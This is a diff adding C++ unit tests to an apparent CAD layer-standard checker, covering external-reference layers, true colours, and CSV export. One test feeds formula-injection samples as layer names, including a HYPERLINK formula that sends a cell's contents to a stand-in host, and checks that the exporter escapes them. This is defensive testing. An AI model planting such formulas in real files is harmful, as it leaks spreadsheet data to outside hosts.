@@ -4,6 +4,7 @@
 
 #include <map>
 
+#include "dxf/colour_numbers.h"
 #include "dxf/layer_table.h"
 
 namespace layercheck {
@@ -133,6 +134,101 @@ TEST(LayerCheck, NumberedMembersAreJudgedByTheFamiliesOfTheDrawingKind) {
     EXPECT_NE(result.rows[3].note.find(u"雛形"), std::u16string::npos);
     EXPECT_EQ(result.rows[4].verdict, Verdict::NumberedNotAllowed);
     EXPECT_EQ(result.count(Verdict::Missing), 0);
+}
+
+TEST(LayerCheck, LayersOfExternalReferencesHaveAVerdictOfTheirOwn) {
+    const auto referenced = [](std::u16string name, int colour, std::u16string linetype) {
+        DrawingLayer layer{std::move(name), colour, std::move(linetype)};
+        layer.xrefDependent = true;
+        return layer;
+    };
+    const Result result = checkLayers({referenced(u"現況図|D-BGD", 8, u"破線"),
+                                       referenced(u"現況図|D-TTL", 1, u"実線"),
+                                       referenced(u"測量|基準点|壁", 7, u"Continuous"),
+                                       {u"D-TTL", 2, u"Continuous"}},
+                                      standardOf(kGeneralDrawing, 1, colours));
+    struct Expected {
+        std::u16string name;
+        Verdict referenced;
+        std::u16string note;
+    };
+    const Expected expected[] = {
+        {u"現況図|D-BGD", Verdict::Standard,
+         u"外部参照「現況図」の画層です（名前は AutoCAD LT が付け、変更できません）。参照先の画層「D-BGD」：標準"},
+        {u"現況図|D-TTL", Verdict::OtherProperties,
+         u"外部参照「現況図」の画層です（名前は AutoCAD LT が付け、変更できません）。参照先の画層「D-TTL」："
+         u"標準名（色・線種が異なる）（色が 1（基準は 2）、線種が「実線」（基準は「Continuous」））"},
+        {u"測量|基準点|壁", Verdict::NotStandard,
+         u"外部参照「測量|基準点」の画層です（名前は AutoCAD LT が付け、変更できません）。参照先の画層「壁」：標準外"},
+    };
+    for (std::size_t i = 0; i < std::size(expected); ++i) {
+        const Row& row = result.rows[i];
+        EXPECT_EQ(row.name, expected[i].name);
+        EXPECT_EQ(row.verdict, Verdict::XrefDependent) << i;
+        EXPECT_EQ(row.referenced, expected[i].referenced) << i;
+        EXPECT_EQ(row.note, expected[i].note) << i;
+    }
+    EXPECT_EQ(result.rows[0].standardName, u"D-BGD");
+    EXPECT_EQ(result.count(Verdict::XrefDependent), 3);
+    EXPECT_EQ(result.count(Verdict::Forbidden), 0);
+    // What only an external reference holds is still missing from the drawing; the references are no
+    // finding, since the user cannot rename them.
+    EXPECT_EQ(rowOf(result, u"D-BGD").verdict, Verdict::Missing);
+    EXPECT_EQ(result.findings(), 2);  // D-STR-DIM and D-BGD are missing
+    // The same name without the flag is a name the user made, with a character AutoCAD LT refuses.
+    const Result unflagged =
+        checkLayers({{u"現況図|D-BGD", 8, u"破線"}}, standardOf(kGeneralDrawing, 1, colours));
+    EXPECT_EQ(unflagged.rows[0].verdict, Verdict::Forbidden);
+}
+
+TEST(LayerCheck, ATrueColourIsTheStandardsOnlyWhereItIsTheColourNumbersOwn) {
+    struct Case {
+        std::uint32_t rgb;
+        int number;  // the nearest colour number, which the file gives beside the true colour
+        Verdict verdict;
+        std::u16string note;
+    };
+    // D-TTL's standard colour is 2, yellow (255,255,0).
+    const Case cases[] = {
+        {0xFFFF00, 2, Verdict::Standard, u""},
+        {0xFF0000, 2, Verdict::OtherProperties, u"色が 255,0,0（基準は 2）"},
+        {0xFFFE00, 2, Verdict::OtherProperties, u"色が 255,254,0（基準は 2）"},
+        {0xFFFF00, 1, Verdict::Standard, u""},
+    };
+    for (const Case& c : cases) {
+        DrawingLayer layer{u"D-TTL", c.number, u"Continuous"};
+        layer.trueColour = c.rgb;
+        const Result result = checkLayers({layer}, standardOf(kGeneralDrawing, 1, colours));
+        EXPECT_EQ(result.rows[0].verdict, c.verdict) << c.rgb;
+        EXPECT_EQ(result.rows[0].note, c.note) << c.rgb;
+        EXPECT_EQ(colourText(result.rows[0].colour, result.rows[0].trueColour), dxf::trueColourText(c.rgb));
+    }
+    // A numbered member's colour is the user's, true or not.
+    DrawingLayer member{u"D-BYP-STR1", 1, u"Continuous"};
+    member.trueColour = 0x123456;
+    EXPECT_EQ(checkLayers({member}, standardOf(kGeneralDrawing, 1, colours)).rows[0].verdict,
+              Verdict::NumberedAllowed);
+}
+
+TEST(LayerCheck, NamesThatASpreadsheetWouldTakeForFormulasStayTextInTheCsv) {
+    const std::vector<std::pair<std::u16string, std::string>> names = {
+        {u"=HYPERLINK(\"http://example.invalid/\"&A1,\"クリック\")",
+         "\"'=HYPERLINK(\"\"http://example.invalid/\"\"&A1,\"\"クリック\"\")\""},
+        {u"=1+1", "\"'=1+1\""},
+        {u"+81-3", "\"'+81-3\""},
+        {u"-STR", "\"'-STR\""},
+        {u"@SUM(A1)", "\"'@SUM(A1)\""},
+        {u"\tD-STR", "\"'\tD-STR\""},
+        {u"\rD-STR", "\"'\rD-STR\""},
+        {u"D-STR=1", "\"D-STR=1\""},  // only the first character counts
+        {u"構造物", "\"構造物\""},
+    };
+    for (const auto& [name, field] : names) {
+        Row row;
+        row.name = name;
+        const std::string csv = csvOf({row});
+        EXPECT_NE(csv.find("\"標準外\"," + field + ","), std::string::npos) << csv;
+    }
 }
 
 TEST(LayerCheck, SavesTheRowsAsCsvThatExcelOpensWithJapanese) {
